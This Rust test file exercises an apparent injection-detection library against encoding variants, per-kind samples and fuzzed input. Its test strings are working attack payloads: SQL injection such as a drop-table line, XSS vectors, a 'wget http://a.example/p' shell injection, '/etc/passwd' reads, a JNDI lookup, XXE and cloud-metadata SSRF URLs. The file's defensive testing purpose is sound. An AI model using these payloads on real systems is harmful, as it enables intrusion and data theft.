//! What is caught stays caught when it is written another way, and no bytes bring a detector down.

use palisade_injection::{Kind, Kinds, Sensitivity, inspect, inspect_for, sql, xss};
use proptest::prelude::*;

const SQL: &[&str] = &[
    "1 union select 1,password from users",
    "1' or 'a'='a",
    "1 and 1=1",
    "x') or 5=(select count(*) from t)-- ",
    "1;drop table users--",
    "1 and substring(version(),1,1)=5",
    "' union all select null,null#",
];

const XSS: &[&str] = &[
    "<script>f(1)</script>",
    "<img src=x onerror=f(1)>",
    "\" onfocus=f(1) x=\"",
    "<a href=javascript:f(1)>x</a>",
    "<svg onload=f(1)>",
];

fn low(text: &str) -> Option<Kind> {
    inspect(text.as_bytes(), Sensitivity::Low).map(|finding| finding.kind)
}

#[test]
fn case_changes_nothing() {
    for text in SQL.iter().chain(XSS) {
        let mixed: String = text
            .chars()
            .enumerate()
            .map(|(at, c)| {
                if at % 2 == 0 {
                    c.to_ascii_uppercase()
                } else {
                    c.to_ascii_lowercase()
                }
            })
            .collect();
        assert!(low(text).is_some(), "{text}");
        assert!(low(&mixed).is_some(), "{mixed}");
        assert!(low(&text.to_uppercase()).is_some(), "{text}");
    }
}

#[test]
fn comments_and_other_blanks_replace_blanks_in_sql() {
    for text in SQL {
        for blank in [
            "/**/", "/*x y*/", "\t", "\n", "\r\n", "\x0b", "\x0c", "\u{a0}", "  ", "/*!*/", "--\n",
            "#x\n",
        ] {
            let other = text.replace(' ', blank);
            assert_eq!(
                sql(other.as_bytes(), Sensitivity::Low).map(|finding| finding.kind),
                Some(Kind::Sql),
                "{other:?}"
            );
        }
    }
}

#[test]
fn blanks_that_html_allows_replace_blanks_in_tags() {
    for text in XSS {
        for blank in ["\t", "\n", "\r", "\x0c", "  "] {
            let other = text.replace(' ', blank);
            assert!(xss(other.as_bytes()).is_some(), "{other:?}");
        }
    }
    assert!(xss(b"<svg/onload=f(1)>").is_some());
}

#[test]
fn full_width_letters_are_read_as_their_narrow_ones() {
    for text in SQL.iter().chain(XSS) {
        let wide: String = text
            .chars()
            .map(|c| {
                if c.is_ascii_graphic() {
                    char::from_u32(c as u32 + 0xfee0).unwrap()
                } else {
                    c
                }
            })
            .collect();
        assert!(low(&wide).is_some(), "{wide}");
    }
}

#[test]
fn character_references_are_read_as_what_they_spell() {
    for text in [
        "<a href=\"&#106;avascript:f(1)\">",
        "<a href=\"&#x6a;ava&Tab;script&colon;f(1)\">",
        "&lt;svg/onload&equals;f&lpar;1&rpar;&gt;",
    ] {
        assert_eq!(low(text), Some(Kind::Xss), "{text}");
    }
}

#[test]
fn every_kind_is_found_by_its_structure() {
    let cases: &[(&str, Kind)] = &[
        ("1' or 1=1-- ", Kind::Sql),
        ("<script src=//a.example>", Kind::Xss),
        ("x; wget http://a.example/p", Kind::Shell),
        ("$(id)", Kind::Shell),
        ("& ipconfig /all", Kind::Windows),
        ("../../../../srv/x", Kind::Path),
        ("/etc/passwd", Kind::Path),
        ("http://192.0.2.7/shell.txt?", Kind::Rfi),
        ("php://filter/resource=index", Kind::Php),
        ("{{7*7}}", Kind::Template),
        ("{\"a\": {\"$ne\": 1}}", Kind::NoSql),
        ("*)(uid=*))(|(uid=*", Kind::Ldap),
        ("x'] | //user/*[contains(*,'", Kind::XPath),
        ("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///x\">]>", Kind::Xxe),
        ("<esi:include src=\"http://a.example/\"/>", Kind::Ssi),
        ("x\r\nSet-Cookie: a=b", Kind::Crlf),
        ("a@b.example\r\nBcc: c@d.example", Kind::Mail),
        ("${jndi:ldap://a.example/x}", Kind::Lookup),
        ("%{#context['x']}", Kind::Expression),
        (
            "; Invoke-WebRequest -Uri http://a.example/",
            Kind::PowerShell,
        ),
        ("http://169.254.169.254/latest/", Kind::Metadata),
        ("__proto__[admin]", Kind::Prototype),
        ("rO0ABXNyABFqYXZhLnV0aWwu", Kind::Deserialisation),
        ("query { __schema { types { name } } }", Kind::GraphQl),
        ("http://169.254.169.254/latest/", Kind::Ssrf),
        ("/\\evil.example", Kind::Redirect),
    ];
    for (text, kind) in cases {
        let found = inspect_for(text.as_bytes(), Sensitivity::Low, Kinds::of(&[*kind]));
        assert_eq!(found.map(|finding| finding.kind), Some(*kind), "{text}");
    }
}

#[test]
fn high_sensitivity_finds_all_that_low_finds_and_more() {
    for text in SQL {
        assert!(sql(text.as_bytes(), Sensitivity::High).is_some(), "{text}");
    }
    assert!(sql(b"1 or 1", Sensitivity::Low).is_none());
    assert!(sql(b"1 or 1", Sensitivity::High).is_some());
}

/// Repeats of what makes lexers look ahead must stay within a bounded number of steps: this test ends, or it hangs.
#[test]
fn long_hostile_values_are_read_to_the_end() {
    let pieces = [
        "'",
        "\"or",
        "(",
        "union select ",
        "/*",
        "<a x='",
        "<",
        "{{",
        "${",
        "`",
        "select(",
        "@a:=",
        "or 'a",
        "&lt;",
        "$(",
        "a|",
        "../",
        "=",
        "--\n",
        "if(",
        "case when ",
        "; begin ",
        "\n",
        "*/(",
        "é(",
        "$f[1]",
        "/[a]",
        "require(",
        "if a==",
        "{a,b}",
        "x)(|",
        "\u{1}",
    ];
    for piece in pieces {
        let text = piece.repeat(64 * 1024 / piece.len());
        let _either = inspect_for(text.as_bytes(), Sensitivity::High, Kinds::ALL);
    }
}

fn hostile() -> impl Strategy<Value = Vec<u8>> {
    let piece = prop_oneof![
        Just("'"),
        Just("\""),
        Just("`"),
        Just("("),
        Just(")"),
        Just(" or "),
        Just("union"),
        Just(" select "),
        Just("--"),
        Just("/*"),
        Just("*/"),
        Just("<"),
        Just(">"),
        Just("="),
        Just("on"),
        Just("click"),
        Just("javascript:"),
        Just("$"),
        Just("{"),
        Just("}"),
        Just("%"),
        Just("|"),
        Just("&"),
        Just(";"),
        Just("../"),
        Just("\\"),
        Just("id"),
        Just("1"),
        Just("@"),
        Just("#"),
        Just("&#x"),
        Just("\n"),
        Just("http://"),
        Just("attribute::"),
        Just("["),
        Just("]"),
        Just(":"),
        Just("!"),
        Just("é"),
        Just("\u{ff07}"),
        Just(" "),
        Just("alert"),
        Just("dir"),
        Just("for %a in ("),
    ];
    prop::collection::vec(prop_oneof![4 => piece.prop_map(|text| text.as_bytes().to_vec()), 1 => prop::collection::vec(any::<u8>(), 0..4)], 0..40).prop_map(|parts| parts.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn no_bytes_bring_a_detector_down_and_findings_lie_inside(value in hostile()) {
        for sensitivity in [Sensitivity::Low, Sensitivity::High] {
            if let Some(finding) = inspect_for(&value, sensitivity, Kinds::ALL) {
                prop_assert!(finding.start <= finding.end && finding.end <= value.len());
            }
            if let Some(finding) = sql(&value, sensitivity) {
                prop_assert!(finding.start <= finding.end && finding.end <= value.len());
            }
        }
    }

    #[test]
    fn each_detector_alone_survives_every_value(value in hostile()) {
        let detectors = [
            palisade_injection::xss, palisade_injection::shell, palisade_injection::windows, palisade_injection::path, palisade_injection::rfi, palisade_injection::php, palisade_injection::template, palisade_injection::nosql, palisade_injection::ldap, palisade_injection::xpath,
            palisade_injection::xxe, palisade_injection::ssi, palisade_injection::crlf, palisade_injection::mail, palisade_injection::expression, palisade_injection::prototype, palisade_injection::deserialisation, palisade_injection::graphql, palisade_injection::ssrf, palisade_injection::redirect,
        ];
        for detector in detectors {
            if let Some(finding) = detector(&value) {
                prop_assert!(finding.end <= value.len());
            }
        }
    }
}
